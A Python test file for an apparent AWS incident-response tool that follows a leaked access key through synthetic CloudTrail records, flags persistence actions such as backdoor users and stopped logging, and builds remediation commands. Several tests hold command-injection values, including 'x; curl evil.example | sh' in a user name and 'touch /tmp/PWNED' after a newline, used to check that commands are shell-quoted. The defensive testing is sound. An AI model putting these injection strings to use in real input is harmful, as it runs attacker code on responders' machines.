"""`activity.investigate`: a leaked key followed across three accounts through the credentials
it minted (CloudTrail User Guide, "CloudTrail userIdentity element": a session's calls carry
the ASIA… key and the assumed-role ARN that AssumeRole returned in its responseElements), and
the persistence actions it took (`activity.persistence`)"""

from __future__ import annotations

import json
import shlex
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from iamwarden.activity import find_files, ingest_files, open_store
from iamwarden.activity.calls import window
from iamwarden.activity.investigate import Investigation, investigate
from iamwarden.activity.persistence import TACTICS, flag, normalise_event_name
from iamwarden.activity.store import ActivityStore
from tests.activity.conftest import write_records

A, B, C = "111111111111", "222222222222", "333333333333"
LEAKED = "AKIALEAKED0000000001"
ALICE = f"arn:aws:iam::{A}:user/alice"
OPS_KEY, OPS_ARN = "ASIAOPS0000000000001", f"arn:aws:sts::{B}:assumed-role/ops/leak"
DEPLOY_KEY, DEPLOY_ARN = "ASIADEPLOY0000000001", f"arn:aws:sts::{C}:assumed-role/deploy/hop"
SESSION_KEY = "ASIASESSION000000001"
BACKDOOR_KEY = "AKIABACKDOOR00000001"
SECRETS = ("SECRET-TOKEN-OPS", "SECRET-KEY-BACKDOOR", "SECRET-TOKEN-SESSION", "SECRET-ACCESS")


def _call(
    name: str,
    time: str,
    *,
    source: str,
    account: str,
    key: str,
    arn: str,
    region: str = "us-east-1",
    ip: str = "203.0.113.9",
    params: dict[str, Any] | None = None,
    response: dict[str, Any] | None = None,
    error: str | None = None,
) -> dict[str, Any]:
    identity: dict[str, Any] = {"arn": arn, "accessKeyId": key, "accountId": arn.split(":")[4]}
    if ":assumed-role/" in arn:
        role = arn.split("/")[1]
        identity |= {
            "type": "AssumedRole",
            "principalId": f"AROA{role.upper()}:x",
            "sessionContext": {
                "sessionIssuer": {"type": "Role", "arn": f"arn:aws:iam::{account}:role/{role}"}
            },
        }
    else:
        identity |= {"type": "IAMUser", "principalId": "AIDAALICE", "userName": "alice"}
    found: dict[str, Any] = {
        "eventVersion": "1.09",
        "eventID": f"{account}-{name}-{time}",
        "eventTime": time,
        "eventSource": source,
        "eventName": name,
        "awsRegion": region,
        "sourceIPAddress": ip,
        "userAgent": "aws-cli/2.15",
        "eventType": "AwsApiCall",
        "recipientAccountId": account,
        "requestParameters": params,
        "responseElements": response,
        "userIdentity": identity,
    }
    if error:
        found |= {"errorCode": error, "errorMessage": "not authorized"}
    return found


def _assume(role_arn: str, key: str, arn: str, token: str) -> dict[str, Any]:
    return {
        "credentials": {
            "accessKeyId": key,
            "sessionToken": token,
            "secretAccessKey": "SECRET-ACCESS",
            "expiration": "Mar 1, 2026, 11:00:00 AM",
        },
        "assumedRoleUser": {"arn": arn, "assumedRoleId": "AROAX:leak"},
    }


def _events() -> dict[str, list[dict[str, Any]]]:
    """Per account: alice's key in A assumes ops in B, which assumes deploy in C (which
    assumes ops back: a cycle), gets a session token, and ops creates a backdoor key"""
    sts, iam = "sts.amazonaws.com", "iam.amazonaws.com"
    alice = {"account": A, "key": LEAKED, "arn": ALICE}
    ops = {"account": B, "key": OPS_KEY, "arn": OPS_ARN}
    deploy = {"account": C, "key": DEPLOY_KEY, "arn": DEPLOY_ARN, "ip": "198.51.100.20"}
    to_ops = _assume(f"arn:aws:iam::{B}:role/ops", OPS_KEY, OPS_ARN, "SECRET-TOKEN-OPS")
    in_a = [
        _call("GetCallerIdentity", "2026-01-01T09:00:00Z", source=sts, **alice),
        _call("GetCallerIdentity", "2026-03-01T10:00:00Z", source=sts, **alice),
        _call("ListBuckets", "2026-03-01T10:01:00Z", source="s3.amazonaws.com", **alice),
        _call(
            "AssumeRole",
            "2026-03-01T10:02:00Z",
            source=sts,
            params={"roleArn": f"arn:aws:iam::{B}:role/ops", "roleSessionName": "leak"},
            response=to_ops,
            **alice,
        ),
        _call(
            "GetSessionToken",
            "2026-03-01T10:03:00Z",
            source=sts,
            response={
                "credentials": {"accessKeyId": SESSION_KEY, "sessionToken": "SECRET-TOKEN-SESSION"}
            },
            **alice,
        ),
        _call(
            "DescribeInstances",
            "2026-03-01T10:04:00Z",
            source="ec2.amazonaws.com",
            error="Client.UnauthorizedOperation",
            **alice,
        ),
        _call(
            "GetObject",
            "2026-03-01T10:20:00Z",
            source="s3.amazonaws.com",
            account=A,
            key=SESSION_KEY,
            arn=ALICE,
            params={"bucketName": "payroll", "key": "2026.csv"},
        ),
        # someone else's key in the same account: never part of the investigation
        _call(
            "ListBuckets",
            "2026-03-01T10:30:00Z",
            source="s3.amazonaws.com",
            account=A,
            key="AKIAOTHER00000000001",
            arn=f"arn:aws:iam::{A}:user/bob",
        ),
    ]
    in_b = [
        # the cross-account AssumeRole is logged in the role's account too (same key returned)
        _call(
            "AssumeRole",
            "2026-03-01T10:02:00Z",
            source=sts,
            params={"roleArn": f"arn:aws:iam::{B}:role/ops", "roleSessionName": "leak"},
            response=to_ops,
            account=B,
            key=LEAKED,
            arn=ALICE,
        ),
        _call("ListUsers", "2026-03-01T10:05:00Z", source=iam, **ops),
        _call(
            "CreateUser",
            "2026-03-01T10:06:00Z",
            source=iam,
            params={"userName": "backdoor"},
            response={"user": {"arn": f"arn:aws:iam::{B}:user/backdoor", "userName": "backdoor"}},
            **ops,
        ),
        _call(
            "CreateAccessKey",
            "2026-03-01T10:07:00Z",
            source=iam,
            params={"userName": "backdoor"},
            response={
                "accessKey": {
                    "accessKeyId": BACKDOOR_KEY,
                    "secretAccessKey": "SECRET-KEY-BACKDOOR",
                    "status": "Active",
                    "userName": "backdoor",
                }
            },
            **ops,
        ),
        _call(
            "AssumeRole",
            "2026-03-01T10:08:00Z",
            source=sts,
            params={"roleArn": f"arn:aws:iam::{C}:role/deploy", "roleSessionName": "hop"},
            response=_assume(f"arn:aws:iam::{C}:role/deploy", DEPLOY_KEY, DEPLOY_ARN, "t2"),
            **ops,
        ),
        _call(
            "ListRoles",
            "2026-03-01T11:00:00Z",
            source=iam,
            account=B,
            key=BACKDOOR_KEY,
            arn=f"arn:aws:iam::{B}:user/backdoor",
            ip="192.0.2.50",
        ),
        # the same session name two days later, with another key: a new, legitimate session
        _call(
            "ListUsers",
            "2026-03-03T10:05:00Z",
            source=iam,
            account=B,
            key="ASIALEGIT00000000001",
            arn=OPS_ARN,
        ),
    ]
    in_c = [
        _call(
            "StopLogging",
            "2026-03-01T10:10:00Z",
            source="cloudtrail.amazonaws.com",
            region="eu-west-1",
            params={"name": "main-trail"},
            **deploy,
        ),
        _call(
            "GetObject",
            "2026-03-01T10:11:00Z",
            source="s3.amazonaws.com",
            error="AccessDenied",
            params={"bucketName": "secrets", "key": "k"},
            **deploy,
        ),
        _call(
            "AssumeRole",
            "2026-03-01T10:12:00Z",
            source=sts,
            params={"roleArn": f"arn:aws:iam::{B}:role/ops", "roleSessionName": "leak"},
            response=to_ops,
            **deploy,
        ),
    ]
    return {A: in_a, B: in_b, C: in_c}


@pytest.fixture
def trail(tmp_path: Path) -> Path:
    """The three accounts' records in CloudTrail's layout, gzip, one file per account"""
    root = tmp_path / "AWSLogs"
    for account, records in _events().items():
        write_records(
            root
            / account
            / "CloudTrail"
            / "us-east-1"
            / "2026"
            / "03"
            / "01"
            / f"{account}_CloudTrail_us-east-1_20260301T1000Z_x.json.gz",
            records,
            compress=True,
        )
    return root


@pytest.fixture
def db(trail: Path, tmp_path: Path) -> Path:
    """A store file with the three accounts ingested by the real ingestion"""
    path = tmp_path / "trail.duckdb"
    with open_store(path) as store:
        found = ingest_files(store, list(find_files([trail])))
        assert found.events == 18 and not found.problems
    return path


@pytest.fixture
def store(db: Path) -> Iterator[ActivityStore]:
    with open_store(db, read_only=True) as opened:
        yield opened


def _key(store: ActivityStore, days: int | None = 30) -> Investigation:
    return investigate(store, access_key=LEAKED, days=days)


def test_minted_credentials_are_followed_across_accounts_and_chains(
    store: ActivityStore,
) -> None:
    found = _key(store)
    assert found.not_assessed == ()
    minted = {c.label: (c.minted_by, c.parent, c.depth) for c in found.credentials}
    assert minted == {
        LEAKED: ("", "", 0),
        OPS_KEY: ("AssumeRole", LEAKED, 1),
        SESSION_KEY: ("GetSessionToken", LEAKED, 1),
        BACKDOOR_KEY: ("CreateAccessKey", OPS_KEY, 2),
        DEPLOY_KEY: ("AssumeRole", OPS_KEY, 2),
    }
    ops = next(c for c in found.credentials if c.label == OPS_KEY)
    assert ops.session_arn == OPS_ARN and ops.account == A
    assert {e.account for e in found.timeline} == {A, B, C}
    assert found.owners == (ALICE,)


def test_the_cycle_guard_follows_each_credential_once(store: ActivityStore) -> None:
    """deploy assumes ops back (the key ops already is): ops is not followed twice"""
    found = _key(store)
    assert [c.label for c in found.credentials].count(OPS_KEY) == 1
    ops_calls = [e for e in found.timeline if e.access_key_id == OPS_KEY]
    assert len(ops_calls) == len({e.event_id for e in ops_calls}) == 4


def test_timeline_has_every_call_of_the_key_and_its_sessions_and_nothing_else(
    store: ActivityStore,
) -> None:
    found = _key(store)
    names = [(e.account, e.event_name) for e in found.timeline]
    assert names == [
        (A, "GetCallerIdentity"),
        (A, "ListBuckets"),
        (A, "AssumeRole"),
        (B, "AssumeRole"),
        (A, "GetSessionToken"),
        (A, "DescribeInstances"),
        (B, "ListUsers"),
        (B, "CreateUser"),
        (B, "CreateAccessKey"),
        (B, "AssumeRole"),
        (C, "StopLogging"),
        (C, "GetObject"),
        (C, "AssumeRole"),
        (A, "GetObject"),
        (B, "ListRoles"),
    ]
    assert all(e.access_key_id != "AKIAOTHER00000000001" for e in found.timeline)
    # the session name reused two days later with another key is outside the session's life
    assert all(e.access_key_id != "ASIALEGIT00000000001" for e in found.timeline)
    assert found.first_use is not None and found.first_use.isoformat() == "2026-03-01T10:00:00"
    assert found.last_use is not None and found.last_use.isoformat() == "2026-03-01T11:00:00"


def test_the_window_counts_back_from_the_latest_event(store: ActivityStore) -> None:
    assert len(_key(store, days=30).timeline) == 15
    old = _key(store, days=90)
    assert len(old.timeline) == 16
    assert old.first_use is not None and old.first_use.isoformat() == "2026-01-01T09:00:00"


def test_breakdowns_and_denied_calls(store: ActivityStore) -> None:
    found = _key(store)
    by = {b.dimension: b.rows for b in found.breakdowns}
    assert by["account"] == ((A, 6, 1), (B, 6, 0), (C, 3, 1))
    assert by["source_ip"][0] == ("203.0.113.9", 11, 1)
    assert ("198.51.100.20", 3, 1) in by["source_ip"]
    assert ("Client.UnauthorizedOperation", 1, 1) in by["error_code"]
    assert ("AccessDenied", 1, 1) in by["error_code"]
    assert {(e.account, e.event_name) for e in found.denied} == {
        (A, "DescribeInstances"),
        (C, "GetObject"),
    }
    assert {r[0] for r in by["region"]} == {"us-east-1", "eu-west-1"}


def test_persistence_actions_say_what_they_created_and_how_to_undo_it(
    store: ActivityStore,
) -> None:
    found = _key(store)
    flagged = {e.event_name: e.flagged for e in found.flagged}
    assert set(flagged) == {"CreateUser", "CreateAccessKey", "StopLogging"}
    assert flagged["CreateUser"] is not None
    assert dict(flagged["CreateUser"].created) == {
        "user": "backdoor",
        "user_arn": f"arn:aws:iam::{B}:user/backdoor",
    }
    assert flagged["CreateAccessKey"] is not None
    assert dict(flagged["CreateAccessKey"].created) == {"user": "backdoor", "key": BACKDOOR_KEY}
    assert flagged["StopLogging"] is not None
    assert flagged["StopLogging"].undo == (
        "aws cloudtrail start-logging --name main-trail --region eu-west-1",
    )


def test_the_plan_deactivates_before_it_deletes(store: ActivityStore) -> None:
    """IAM User Guide, "Manage access keys for IAM users": make a key inactive before
    deleting it; "Revoking IAM role temporary security credentials" for the sessions"""
    found = _key(store, days=30)
    assert [s.title for s in found.plan] == [
        "deactivate",
        "review",
        "rotate dependants",
        "delete",
        "move the workload to roles",
    ]
    deactivate, review, _, delete, move = (s.commands for s in found.plan)
    assert deactivate[0] == (
        f"aws iam update-access-key --user-name alice --access-key-id {LEAKED} "
        f"--status Inactive  # account {A}"
    )
    revoke = (
        '{"Version":"2012-10-17","Statement":[{"Effect":"Deny","Action":["*"],'
        '"Resource":["*"],"Condition":{"DateLessThan":{"aws:TokenIssueTime":'
        '"2026-03-03T10:05:00Z"}}}]}'
    )
    assert (
        "aws iam put-role-policy --role-name ops --policy-name AWSRevokeOlderSessions "
        f"--policy-document '{revoke}'  # account {B}"
    ) in deactivate
    assert any(
        c.startswith("aws iam put-role-policy --role-name deploy") and c.endswith(f"# account {C}")
        for c in deactivate
    )
    assert any("put-user-policy --user-name alice" in c for c in deactivate)
    assert (
        f"aws iam update-access-key --user-name backdoor --access-key-id {BACKDOOR_KEY} "
        "--status Inactive"
    ) in deactivate
    assert not any("delete" in c for c in deactivate)
    assert any(f"AttributeValue={LEAKED} --region eu-west-1" in c for c in review)
    assert delete[-1] == f"aws iam delete-access-key --user-name alice --access-key-id {LEAKED}"
    assert any(c.startswith("aws iam delete-user --user-name backdoor") for c in delete)
    assert any(
        c.startswith(
            f"aws iam delete-access-key --user-name backdoor --access-key-id {BACKDOOR_KEY}"
        )
        for c in delete
    )
    assert move[0] == f"iamwarden activity generate --principal {ALICE} --days 90"


def test_a_principal_is_investigated_like_its_key(store: ActivityStore) -> None:
    found = investigate(store, principal=ALICE, days=30)
    assert {c.label for c in found.credentials} >= {ALICE, OPS_KEY, DEPLOY_KEY, BACKDOOR_KEY}
    assert len(found.timeline) == 15
    assert found.plan[0].commands[0] == "aws iam list-access-keys --user-name alice"


def test_a_role_is_investigated_with_the_sessions_it_minted(store: ActivityStore) -> None:
    """Role sessions roll up to the role (`activity.principals`); what they minted follows"""
    role = f"arn:aws:iam::{B}:role/ops"
    found = investigate(store, principal=role, days=30)
    assert {e.account for e in found.timeline} == {B, C}
    # deploy assumes ops back: that session is minted from the chain too (followed once)
    assert {c.label for c in found.credentials} == {role, DEPLOY_KEY, BACKDOOR_KEY, OPS_KEY}
    # the same session name two days later is the role too: a role is all of its sessions
    assert any(e.access_key_id == "ASIALEGIT00000000001" for e in found.timeline)
    assert any(
        c.startswith("aws iam put-role-policy --role-name ops ") and c.endswith(f"# account {B}")
        for c in found.plan[0].commands
    )


def test_a_root_key_is_deactivated_as_the_root_user(tmp_path: Path) -> None:
    """IAM User Guide, "Access keys for the root user": the root user manages its own keys;
    there is no user name to give and no policy to attach to it"""
    root = {"type": "Root", "arn": f"arn:aws:iam::{A}:root", "accountId": A}
    records = [
        _call(
            "ListBuckets",
            "2026-03-01T10:00:00Z",
            source="s3.amazonaws.com",
            account=A,
            key="AKIAROOT000000000001",
            arn=f"arn:aws:iam::{A}:root",
        ),
        _call(
            "GetSessionToken",
            "2026-03-01T10:01:00Z",
            source="sts.amazonaws.com",
            account=A,
            key="AKIAROOT000000000001",
            arn=f"arn:aws:iam::{A}:root",
            response={"credentials": {"accessKeyId": "ASIAROOT000000000001"}},
        ),
    ]
    for found in records:
        found["userIdentity"] = {**root, "accessKeyId": "AKIAROOT000000000001"}
    write_records(tmp_path / "root.json", records)
    with open_store(None) as store:
        ingest_files(store, list(find_files([tmp_path / "root.json"])))
        found = investigate(store, access_key="AKIAROOT000000000001")
    assert found.owners == (f"arn:aws:iam::{A}:root",)
    deactivate, *_, delete, _ = (s.commands for s in found.plan)
    assert deactivate == (
        "aws iam update-access-key --access-key-id AKIAROOT000000000001 --status Inactive"
        "  # signed in as the root user",
    )
    assert delete == (
        "aws iam delete-access-key --access-key-id AKIAROOT000000000001"
        "  # signed in as the root user",
    )


def test_a_session_into_an_account_not_in_the_store_is_not_assessed(tmp_path: Path) -> None:
    """Missing data is NOT_ASSESSED: account C's trail was never ingested, so the deploy
    session's calls there are unknown, not absent"""
    events = _events()
    for account in (A, B):
        write_records(tmp_path / "AWSLogs" / account / "t.json", events[account])
    with open_store(None) as partial:
        ingest_files(partial, list(find_files([tmp_path / "AWSLogs"])))
        found = investigate(partial, access_key=LEAKED)
    assert found.not_assessed == (
        f"account {C}: no events in the store; the calls of {DEPLOY_ARN} ({DEPLOY_KEY}) there "
        "are not assessed (ingest that account's trail)",
    )


def test_an_unknown_key_has_no_calls_and_no_plan(store: ActivityStore) -> None:
    found = investigate(store, access_key="AKIANOBODY0000000001")
    assert found.timeline == () and found.plan == () and found.first_use is None


def test_exactly_one_subject() -> None:
    with open_store(None) as empty, pytest.raises(ValueError):
        investigate(empty, access_key=LEAKED, principal=ALICE)


def test_values_from_records_are_shell_quoted_in_commands() -> None:
    """An attacker names the user; the command a responder pastes must not run its text"""
    hostile = "x; curl evil.example | sh"
    found = flag(
        "iam.amazonaws.com",
        "CreateLoginProfile",
        {"userName": hostile},
        None,
        account=A,
        region="us-east-1",
    )
    assert found is not None
    assert found.undo == (f"aws iam delete-login-profile --user-name {shlex.quote(hostile)}",)
    assert shlex.split(found.undo[0])[-1] == hostile


def test_a_missing_field_is_a_placeholder_and_the_caller_stands_in_for_user_name() -> None:
    """IAM API Reference, CreateAccessKey: without UserName, the key is the caller's"""
    found = flag(
        "iam.amazonaws.com",
        "CreateAccessKey",
        {},
        {},
        account=A,
        region="us-east-1",
        caller_user="alice",
    )
    assert found is not None
    assert (
        found.undo[0] == "aws iam update-access-key --user-name alice --access-key-id <key> "
        "--status Inactive"
    )


def test_lambda_versioned_event_names_are_normalised() -> None:
    assert normalise_event_name("UpdateFunctionCode20150331v2") == "UpdateFunctionCode"
    assert normalise_event_name("AddPermission20150331v2") == "AddPermission"
    assert normalise_event_name("CreateUser") == "CreateUser"


def _containers(inner: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
    keys = st.sampled_from(["userName", "secretAccessKey", "sessionToken", "name", "x"])
    return st.lists(inner, max_size=3) | st.dictionaries(keys, inner, max_size=4)


_JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=8),
    _containers,
    max_leaves=12,
)


@settings(max_examples=200, deadline=None)
@given(
    tactic=st.sampled_from(sorted(TACTICS)),
    request=_JSON,
    response=_JSON,
)
def test_any_record_shape_is_read_without_error(
    tactic: tuple[str, str], request: Any, response: Any
) -> None:
    """Records are free-form JSON: any shape gives a reading (or placeholders), never a crash"""
    found = flag(*tactic, request, response, account=A, region="us-east-1")
    assert found is not None
    for _, value in found.created:
        assert isinstance(value, str)


@pytest.mark.parametrize(
    ("technique", "event_name", "created"),
    [
        ("iam-create-admin-user", "CreateUser", ("user", "malicious-iam-user")),
        (
            "iam-create-admin-user",
            "AttachUserPolicy",
            ("policy_arn", "arn:aws:iam::aws:policy/AdministratorAccess"),
        ),
        ("iam-create-admin-user", "CreateAccessKey", ("key", "AKIAXAFZN8JEPF6L682H")),
        ("iam-backdoor-role", "UpdateAssumeRolePolicy", None),
        ("iam-create-backdoor-role", "CreateRole", None),
        ("iam-create-user-login-profile", "CreateLoginProfile", None),
        ("iam-update-user-login-profile", "UpdateLoginProfile", None),
        ("lambda-backdoor-function", "AddPermission20150331v2", None),
        ("lambda-overwrite-code", "UpdateFunctionCode20150331v2", None),
        ("lambda-layer-extension", "UpdateFunctionConfiguration20150331v2", None),
        (
            "rolesanywhere-create-trust-anchor",
            "CreateTrustAnchor",
            ("name", "malicious-rolesanywhere-trust-anchor"),
        ),
        ("sts-federation-token", "GetFederationToken", ("name", "stratus_red_team")),
        ("cloudtrail-stop", "StopLogging", None),
        ("cloudtrail-delete", "DeleteTrail", None),
        ("cloudtrail-event-selectors", "PutEventSelectors", None),
        ("ec2-share-ami", "ModifyImageAttribute", ("image", "ami-de1fbCab6ccB03e6D")),
        ("ec2-share-ebs-snapshot", "ModifySnapshotAttribute", None),
    ],
)
def test_stratus_persistence_actions_are_flagged(
    stratus: Path, technique: str, event_name: str, created: tuple[str, str] | None
) -> None:
    """Stratus Red Team's recorded techniques: investigating the key that ran each finds the
    action and what it created"""
    path = next(stratus.glob(f"aws.*.{technique}.json"))
    data = json.loads(path.read_text())
    records = data["Records"] if isinstance(data, dict) else data
    key = next(r["userIdentity"]["accessKeyId"] for r in records if r["eventName"] == event_name)
    with open_store(None) as store:
        ingest_files(store, list(find_files([stratus])))
        found = investigate(store, access_key=key, days=None)
    flagged = [e for e in found.flagged if e.event_name == event_name]
    assert flagged, [e.event_name for e in found.timeline]
    if created is not None:
        assert flagged[0].flagged is not None
        assert created in flagged[0].flagged.created


@pytest.fixture(scope="module")
def stratus_store() -> Iterator[ActivityStore]:
    from tests.activity.conftest import STRATUS

    if not STRATUS.is_dir():
        pytest.skip("../shared/corpora/cloudtrail-stratus is absent")
    with open_store(None) as store:
        ingest_files(store, list(find_files([STRATUS])))
        yield store


def test_stratus_minted_sessions_are_followed(stratus_store: ActivityStore) -> None:
    """sts-federation-token: the federated user's calls use the ASIA key GetFederationToken
    returned; ec2-get-password-data: the role session's calls are found by the assumed-role
    ARN AssumeRole returned"""
    federation = investigate(stratus_store, access_key="AKIA6V1GNZTT65XQH36M", days=None)
    assert [(c.label, c.minted_by) for c in federation.credentials] == [
        ("AKIA6V1GNZTT65XQH36M", ""),
        ("ASIASTJKC5GCM7ZE6LUP", "GetFederationToken"),
    ]
    assert [e.event_name for e in federation.timeline] == [
        "GetFederationToken",
        "GetCallerIdentity",
    ]
    password = investigate(stratus_store, access_key="AKIAWOGXN38MFN92ING5", days=None)
    session_calls = [e for e in password.timeline if e.depth == 1]
    assert len(session_calls) == 30
    assert {e.event_name for e in session_calls} == {"GetPasswordData"}
    assert len(password.denied) == 32  # and two AssumeRole refused to the key itself
    leave = investigate(stratus_store, access_key="AKIADVISM0T50G52IF0D", days=None)
    assert [(e.event_name, e.error_code, e.depth) for e in leave.denied] == [
        ("LeaveOrganization", "AccessDenied", 1)
    ]


# the newcomer review of issue 11 §1: each test fails on the code before its fix


@contextmanager
def _store_of(tmp_path: Path, records: list[dict[str, Any]]) -> Iterator[ActivityStore]:
    """An in-memory store of `records`, ingested by the real ingestion"""
    write_records(tmp_path / "r.json", records)
    with open_store(None) as store:
        found = ingest_files(store, list(find_files([tmp_path / "r.json"])))
        assert not found.problems
        yield store


ROLE_SESSION_KEY = "ASIAROLESESSION00001"
ROLE_SESSION_ARN = f"arn:aws:sts::{A}:assumed-role/ec2-app/i-0abc"


def test_a_leaked_role_session_key_revokes_the_roles_sessions_not_a_key(tmp_path: Path) -> None:
    """IAM User Guide, "Revoking IAM role temporary security credentials": a temporary key
    cannot be deactivated; the role gets AWSRevokeOlderSessions (aws:TokenIssueTime). The call
    that minted it is not in the store: the parent is not assessed, and said so"""
    records = [
        _call(
            "ListBuckets",
            "2026-03-01T10:00:00Z",
            source="s3.amazonaws.com",
            account=A,
            key=ROLE_SESSION_KEY,
            arn=ROLE_SESSION_ARN,
        )
    ]
    with _store_of(tmp_path, records) as store:
        found = investigate(store, access_key=ROLE_SESSION_KEY, revoke_before=_NOW)
    assert found.owners == (ROLE_SESSION_ARN,)  # the session the key belongs to, named
    deactivate, _, _, delete, move = (s.commands for s in found.plan)
    assert not any("update-access-key" in c or "<user>" in c for c in deactivate)
    assert deactivate == (
        "aws iam put-role-policy --role-name ec2-app --policy-name AWSRevokeOlderSessions "
        f"--policy-document {shlex.quote(_REVOKE_NOW)}  # account {A}",
    )
    assert not any("delete-access-key" in c for c in delete)
    assert (
        move[0]
        == f"iamwarden activity generate --principal arn:aws:iam::{A}:role/ec2-app --days 90"
    )
    assert found.not_assessed == (
        f"{ROLE_SESSION_KEY}: no call in the store minted this temporary key; its parent "
        "credential is not known and not assessed (ingest the trail of the account and day it "
        "was issued in)",
    )


_NOW = datetime(2026, 3, 2, 12, 0, 0)
_REVOKE_NOW = (
    '{"Version":"2012-10-17","Statement":[{"Effect":"Deny","Action":["*"],"Resource":["*"],'
    '"Condition":{"DateLessThan":{"aws:TokenIssueTime":"2026-03-02T12:00:00Z"}}}]}'
)


def test_a_leaked_session_token_key_deactivates_its_parent_and_denies_older_sessions(
    tmp_path: Path,
) -> None:
    """IAM User Guide, "Disabling permissions for temporary security credentials": a
    GetSessionToken session is revoked by denying the user's tokens issued before now; its
    parent long-term key is deactivated (named from the minting call's key)"""
    events = _events()[A]
    with _store_of(tmp_path, events) as store:
        found = investigate(store, access_key=SESSION_KEY, revoke_before=_NOW)
    assert found.not_assessed == ()
    assert [e.event_name for e in found.timeline] == ["GetObject"]
    deactivate, review, *_ = (s.commands for s in found.plan)
    assert deactivate == (
        f"aws iam put-user-policy --user-name alice --policy-name AWSRevokeOlderSessions "
        f"--policy-document {shlex.quote(_REVOKE_NOW)}  # account {A}, revokes {SESSION_KEY} "
        "and the user's other sessions",
        f"aws iam update-access-key --user-name alice --access-key-id {LEAKED} --status "
        f"Inactive  # account {A}, the long-term key whose GetSessionToken minted {SESSION_KEY}",
    )
    assert (
        f"iamwarden activity investigate --access-key {LEAKED} --days 90  # the credential "
        f"whose GetSessionToken minted {SESSION_KEY}"
    ) in review
    assert not any("delete-access-key" in c for c in found.plan[3].commands)


def test_an_account_is_covered_only_by_events_while_the_session_was_valid(tmp_path: Path) -> None:
    """Missing data is NOT_ASSESSED: one event of account C fourteen months before the deploy
    session says nothing of the session's calls there"""
    events = _events()
    old = _call(
        "ListBuckets",
        "2025-01-01T10:00:00Z",
        source="s3.amazonaws.com",
        account=C,
        key="AKIAOLD0000000000001",
        arn=f"arn:aws:iam::{C}:user/old",
    )
    with _store_of(tmp_path, [*events[A], *events[B], old]) as store:
        found = investigate(store, access_key=LEAKED, days=None)
    assert found.not_assessed == (
        f"account {C}: no events in the store; the calls of {DEPLOY_ARN} ({DEPLOY_KEY}) there "
        "are not assessed (ingest that account's trail)",
    )


def test_a_reused_session_name_does_not_blame_another_credentials_calls(tmp_path: Path) -> None:
    """CloudTrail User Guide, "CloudTrail userIdentity element": a session's calls carry the
    key AssumeRole returned; a call with the key another AssumeRole returned (same role, same
    session name `ci`) is that other session's, not the attacker's"""
    sts, ci_arn = "sts.amazonaws.com", f"arn:aws:sts::{A}:assumed-role/ops/ci"
    assume = {"roleArn": f"arn:aws:iam::{A}:role/ops", "roleSessionName": "ci"}
    records = [
        _call(
            "AssumeRole",
            "2026-03-01T10:00:00Z",
            source=sts,
            account=A,
            key=LEAKED,
            arn=ALICE,
            params=assume,
            response=_assume(assume["roleArn"], "ASIAATTACKER00000001", ci_arn, "t1"),
        ),
        _call(
            "AssumeRole",
            "2026-03-01T10:01:00Z",
            source=sts,
            account=A,
            key="AKIACIUSER0000000001",
            arn=f"arn:aws:iam::{A}:user/ci",
            params=assume,
            response=_assume(assume["roleArn"], "ASIALEGITCI000000001", ci_arn, "t2"),
        ),
        _call(
            "UpdateFunctionCode20150331v2",
            "2026-03-01T10:02:00Z",
            source="lambda.amazonaws.com",
            account=A,
            key="ASIALEGITCI000000001",
            arn=ci_arn,
            params={"functionName": "prod"},
        ),
        _call(
            "ListBuckets",
            "2026-03-01T10:03:00Z",
            source="s3.amazonaws.com",
            account=A,
            key="ASIAATTACKER00000001",
            arn=ci_arn,
        ),
        # the same session without a key in the record: linked by its ARN
        _call(
            "ListRoles",
            "2026-03-01T10:04:00Z",
            source="iam.amazonaws.com",
            account=A,
            key="",
            arn=ci_arn,
        ),
    ]
    records[-1]["userIdentity"].pop("accessKeyId")
    with _store_of(tmp_path, records) as store:
        found = investigate(store, access_key=LEAKED)
    assert [e.event_name for e in found.timeline] == ["AssumeRole", "ListBuckets", "ListRoles"]
    assert found.flagged == ()


def test_control_characters_in_records_never_start_a_line_of_the_plan(tmp_path: Path) -> None:
    """A record's values are the attacker's: a newline in recipientAccountId must not put
    `touch /tmp/PWNED` on a line of its own after a `#` comment"""
    records = _events()[A][:3]
    for record in records:
        record["recipientAccountId"] = f"{A}\ntouch /tmp/PWNED"
        record["awsRegion"] = "us-east-1\r\x1b[2Kecho owned"
    with _store_of(tmp_path, records) as store:
        found = investigate(store, access_key=LEAKED)
    commands = [c for step in found.plan for c in step.commands]
    assert any("touch /tmp/PWNED" in c for c in commands)
    assert not any(ch in c for c in commands for ch in "\n\r\x1b")
    assert any(c.endswith(f"# account {A}\\u000atouch /tmp/PWNED") for c in commands)


ROOT = f"arn:aws:iam::{A}:root"
ROOT_KEY = "AKIAROOT000000000001"
CONSOLE_KEY = "ASIACONSOLE000000001"


def test_a_console_password_the_key_created_is_followed_to_its_sign_in(tmp_path: Path) -> None:
    """IAM User Guide, "Managing passwords for IAM users": CreateLoginProfile lets the user
    sign in to the console; its ConsoleLogin and the console session's calls (which carry the
    user's ARN and a console ASIA… key no STS call in the trail returned) are the attacker's"""
    evil = f"arn:aws:iam::{A}:user/evil"
    iam = "iam.amazonaws.com"
    root = {"account": A, "key": ROOT_KEY, "arn": ROOT}
    records = [
        _call(
            "CreateUser", "2026-03-01T10:00:00Z", source=iam, params={"userName": "evil"}, **root
        ),
        _call(
            "CreateLoginProfile",
            "2026-03-01T10:01:00Z",
            source=iam,
            params={"userName": "evil", "password": "HIDDEN-PASSWORD"},
            **root,
        ),
        _call(
            "ConsoleLogin",
            "2026-03-01T10:05:00Z",
            source="signin.amazonaws.com",
            account=A,
            key="",
            arn=evil,
        ),
        _call(
            "DeleteTrail",
            "2026-03-01T10:06:00Z",
            source="cloudtrail.amazonaws.com",
            account=A,
            key=CONSOLE_KEY,
            arn=evil,
            params={"name": "main"},
        ),
        # before the password existed: not the attacker's
        _call(
            "ListBuckets",
            "2026-02-28T10:00:00Z",
            source="s3.amazonaws.com",
            account=A,
            key="",
            arn=evil,
        ),
    ]
    for record in records:
        if record["userIdentity"]["arn"] == ROOT:
            record["userIdentity"]["type"] = "Root"
        if not record["userIdentity"]["accessKeyId"]:
            record["userIdentity"].pop("accessKeyId")
    with _store_of(tmp_path, records) as store:
        found = investigate(store, access_key=ROOT_KEY)
    assert [e.event_name for e in found.timeline] == [
        "CreateUser",
        "CreateLoginProfile",
        "ConsoleLogin",
        "DeleteTrail",
    ]
